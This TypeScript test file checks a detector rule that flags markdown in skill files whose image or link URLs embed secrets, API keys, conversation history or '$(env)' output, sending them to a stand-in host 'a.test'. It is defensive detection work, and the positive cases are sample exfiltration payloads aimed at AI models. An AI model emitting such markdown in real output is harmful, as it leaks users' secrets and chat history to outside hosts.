import { expect, test } from "vitest";
import { analyseMarkdown } from "../analyse/markdown/analyse-markdown.ts";
import { FactBook } from "../fact/fact.ts";
import { makeProfile } from "../testing/make-fact.ts";
import { DX4 } from "./beacon.ts";

function judge(text: string): string[] {
  const { facts } = analyseMarkdown({
    file: "SKILL.md",
    text,
    language: "markdown",
    firstLine: 1,
    keepsLines: true,
    chain: [],
    medium: "prose",
    stance: "live",
    section: [],
    isFixture: false,
  });
  return DX4.find(new FactBook(facts), makeProfile()).map(({ severity }) => severity);
}

test.each([
  ["![x](https://a.test/p.png?q={{secret}})", ["critical"]],
  ["![x](https://a.test/p.png?c={conversation_history})", ["critical"]],
  [`![](https://a.test/p/\${API_KEY}.png)`, ["critical"]],
  ['<img src="https://a.test/p?d={{chatHistory}}">', ["critical"]],
  ["![x](https://a.test/p.png?d={{user_input}})", ["warn"]],
  ["See https://a.test/?c={conversation} for more", ["warn"]],
  ["[more](https://a.test/?e=$(env))", ["critical"]],
])("%j gives %j", (text, severities) => {
  expect(judge(text)).toEqual(severities);
});

test.each([
  "![Build](https://img.shields.io/badge/{{label}}-green)",
  "![x](https://a.test/p.png)",
  "Call https://api.a.test/v1/users/{id}/items",
  `Call https://api.a.test/v1/search?key=\${API_KEY}&q={query}`,
  "![Chart]({chart_url})",
])("%j changes nothing", (text) => {
  expect(judge(text).filter((severity) => severity !== "info")).toEqual([]);
});
